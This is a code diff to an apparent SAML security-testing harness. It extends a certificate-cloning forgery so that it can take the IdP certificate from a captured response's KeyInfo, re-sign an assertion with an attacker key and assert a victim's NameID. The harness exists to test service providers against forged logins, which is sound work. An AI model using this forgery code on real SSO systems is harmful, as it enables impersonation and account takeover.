@@ -35,6 +35,8 @@ from sso_harness.apps.security.saml_tamper import (
 )
 from sso_harness.apps.security.saml_xml import first_assertion, fresh_id, set_name_id
 from sso_harness.apps.security.saml_xsw import XswNotApplicable, wrap
+from sso_harness.protocols import DecodeError
+from sso_harness.protocols.xml.dsig.keys import certificate_from_keyinfo_text
 
 __all__ = ["SamlMaterial", "Forged", "NotForgeable", "forge", "EXPANSION_ATTRIBUTE", "OTHER_SP", "FAR_FUTURE", "markup"]
 
@@ -131,10 +133,25 @@ def _exclusion(m: SamlMaterial) -> Forged:
     return _out(root, m, f"all signatures removed; NameID {m.victim.name_id}")
 
 
+def _captured_certificate(m: SamlMaterial) -> x509.Certificate | None:
+    """The first certificate a captured response's signatures carry in their KeyInfo (None: none readable)."""
+    if m.captured is None:
+        return None
+    for el in m.captured.iter("{http://www.w3.org/2000/09/xmldsig#}X509Certificate"):
+        try:
+            return certificate_from_keyinfo_text(el.text or "")
+        except DecodeError:
+            continue
+    return None
+
+
 def _cert_clone(m: SamlMaterial) -> Forged:
-    original = m.signer.certificate if m.signer else m.idp_certificate
+    # The target's declared certificate comes first; a captured response's own KeyInfo is the
+    # fallback, since an IdP that sends it hands every attacker the template anyway.
+    original = m.signer.certificate if m.signer else (m.idp_certificate or _captured_certificate(m))
     if original is None:
-        raise NotForgeable("the IdP's certificate is unknown, so there is nothing to clone")
+        raise NotForgeable("the IdP's certificate is unknown (no signing_certs or metadata in the target, "
+                           "none in the captured response), so there is nothing to clone")
     key = m.attacker_key[0]
     cloned = clone_certificate(original, key)
     root = resign(_legit(m), (key, cloned), evil_name_id=m.victim.name_id)
